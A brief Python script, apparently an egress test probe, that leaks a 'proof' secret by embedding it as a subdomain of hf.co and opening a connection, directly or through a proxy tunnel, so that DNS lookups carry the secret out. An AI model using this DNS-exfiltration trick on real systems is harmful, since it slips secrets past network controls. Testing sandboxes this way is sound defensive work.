"""Puts a secret into a name below the hub's, which the hub's name servers then see."""

import contextlib
import json
import os
import socket

W = json.loads(os.environ["HOSTILE"])
PROXY = os.environ.get("HTTPS_PROXY", "").rpartition(":")[2]


def tunnel(place):
    """By the proxy, if there is one; directly if there is none."""
    if not PROXY:
        host, _, port = place.rpartition(":")
        return socket.create_connection((host, int(port)), 1)
    client = socket.create_connection(("127.0.0.1", int(PROXY)), 3)
    client.sendall(f"CONNECT {place} HTTP/1.1\r\n\r\n".encode())
    client.recv(1000)  # whatever it is: go on
    return client


with contextlib.suppress(OSError), tunnel(f"{W['proof']}.hf.co:443"):
    pass
